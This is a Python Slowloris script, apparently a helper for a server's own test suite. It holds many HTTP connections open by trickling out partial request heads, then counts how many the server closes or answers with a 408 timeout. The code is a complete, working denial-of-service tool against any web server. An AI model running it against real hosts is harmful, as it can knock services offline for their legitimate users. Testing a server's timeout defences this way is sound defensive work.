"""N connections, each sending one byte of a request head every EVERY seconds; prints
"open N" once all are connected, then how many the server closed (end of stream or a
408) within SECS seconds (attacks_veth.rs).

Usage: slowloris.py HOST N EVERY SECS
"""
import socket, sys, time, resource, selectors
host, n, every, secs = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), float(sys.argv[4])
resource.setrlimit(resource.RLIMIT_NOFILE, (n + 256, n + 256))
sel = selectors.DefaultSelector()
socks = []
for i in range(n):
    s = socket.create_connection((host, 80), timeout=10)
    s.setblocking(False)
    sel.register(s, selectors.EVENT_READ, i)
    socks.append(s)
# All connected: the test starts its real clients now.
print("open", n, flush=True)
head = b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 64
pos = [0] * n
closed = set()
end = time.time() + secs
while time.time() < end and len(closed) < n:
    for i, s in enumerate(socks):
        if i in closed: continue
        try:
            s.send(head[pos[i] % len(head):][:1]); pos[i] += 1
        except OSError:
            closed.add(i); sel.unregister(s)
    t = time.time() + every
    while time.time() < t and len(closed) < n:
        for key, _ in sel.select(0.2):
            i = key.data
            try:
                d = key.fileobj.recv(4096)
            except OSError:
                d = b""
            if not d or b" 408 " in d:
                closed.add(i); sel.unregister(key.fileobj)
print(len(closed))
